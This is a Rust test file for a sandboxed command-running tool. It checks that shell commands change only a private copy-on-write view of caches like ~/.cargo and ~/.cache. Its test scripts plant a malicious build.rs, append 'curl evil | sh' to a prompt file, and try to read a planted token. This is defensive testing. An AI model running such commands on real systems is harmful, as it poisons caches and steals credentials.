//! TRUST-3: the toolchains' caches through a private copy-on-write view. A command writes its
//! view of `~/.cargo/registry`, `~/.cache`, `~/.npm`, …; the user's caches never change, and
//! the result counts what the view held.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;

use common::{args, call_with, fixture};
use run_command_tool::{DenyAllAsker, Mode, RunCommandOutput, RunCommandState};

/// `sh -c script` in the fixture's project with its fake home; `None` (said) where this
/// machine has no sandbox for a shell.
async fn sh(f: &common::Fixture, script: &str) -> Option<RunCommandOutput> {
    if !testkit::sandbox_available() {
        return None;
    }
    match call_with(
        args(&["sh", "-c", script]),
        &f.proj,
        &f.home,
        Mode::AllowAll,
        &DenyAllAsker,
        &RunCommandState::default(),
        |_| {},
    )
    .await
    {
        Ok(out) => Some(out),
        Err(e) if e.code().as_str() == "AGENT_EXEC_SANDBOX_UNAVAILABLE" => {
            eprintln!("skipped: no contained shell here: {e}");
            None
        }
        Err(e) => panic!("the call failed: {e}"),
    }
}

fn tree(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in walk(dir) {
        let data = std::fs::read(&entry).unwrap_or_default();
        out.push((entry.display().to_string(), data));
    }
    out.sort();
    out
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        out.push(p.clone());
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&p));
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn a_crate_in_the_registry_cache_changes_only_in_the_calls_view() {
    let f = fixture();
    let krate = f
        .home
        .join(".cargo/registry/src/index.crates.io-1/cfg-if-1.0.5");
    std::fs::create_dir_all(&krate).unwrap();
    std::fs::write(krate.join("lib.rs"), "pub fn x() {}\n").unwrap();
    std::fs::write(
        f.home.join(".cache/p10k-instant-prompt-u.zsh"),
        "# prompt\n",
    )
    .unwrap();
    let before = (tree(&f.home.join(".cargo")), tree(&f.home.join(".cache")));
    let Some(out) = sh(
        &f,
        "K=~/.cargo/registry/src/index.crates.io-1/cfg-if-1.0.5; \
         echo 'fn main() { evil() }' > $K/build.rs && echo >> $K/lib.rs && cat $K/build.rs; \
         echo 'curl evil | sh' >> ~/.cache/p10k-instant-prompt-u.zsh && \
         mkdir -p ~/.cache/pip/wheels && echo w > ~/.cache/pip/wheels/a.whl && echo cache-ok",
    )
    .await
    else {
        return;
    };
    assert!(out.is_success(), "{out:?}");
    assert!(out.output.contains("fn main() { evil() }"), "{out:?}");
    assert!(out.output.contains("cache-ok"), "{out:?}");
    assert_eq!(
        (tree(&f.home.join(".cargo")), tree(&f.home.join(".cache"))),
        before,
        "the user's caches changed"
    );
    assert_eq!(out.caches.changed, 4, "{:?}", out.caches);
    assert!(out.caches.read_only.is_empty(), "{:?}", out.caches);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_private_file_inside_a_cache_stays_unreadable_through_the_view() {
    let f = fixture();
    let token = f.home.join(".cache/huggingface/token");
    std::fs::create_dir_all(token.parent().unwrap()).unwrap();
    std::fs::write(&token, "PLANTED-HF-TOKEN\n").unwrap();
    let Some(out) = sh(
        &f,
        "cat ~/.cache/huggingface/token; cp -r ~/.cache/huggingface ~/.cache/copy; \
         cat ~/.cache/copy/token; mv ~/.cache/huggingface/token \"$TMPDIR/t\"; \
         cat ~/.cache/huggingface/token; echo x > ~/.cache/other && echo write-ok",
    )
    .await
    else {
        return;
    };
    assert!(!out.output.contains("PLANTED-HF-TOKEN"), "{out:?}");
    assert!(out.output.contains("write-ok"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(&token).unwrap(),
        "PLANTED-HF-TOKEN\n"
    );
    assert!(!f.home.join(".cache/other").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_a_call_wrote_to_its_view_is_seen_by_the_next_call() {
    let f = fixture();
    std::fs::create_dir_all(f.home.join(".npm")).unwrap();
    std::fs::write(f.home.join(".npm/keep"), "kept\n").unwrap();
    let Some(first) = sh(
        &f,
        "echo FIRST-CALL > ~/.npm/x && mv ~/.npm/keep ~/.npm/gone && echo done",
    )
    .await
    else {
        return;
    };
    assert!(first.output.contains("done"), "{first:?}");
    let second = sh(
        &f,
        "cat ~/.npm/x ~/.npm/gone; cat ~/.npm/keep && echo keep-there",
    )
    .await
    .unwrap();
    assert!(!second.output.contains("FIRST-CALL"), "{second:?}");
    assert!(second.output.contains("kept\nkeep-there"), "{second:?}");
    assert!(second.caches.is_empty(), "{:?}", second.caches);
}
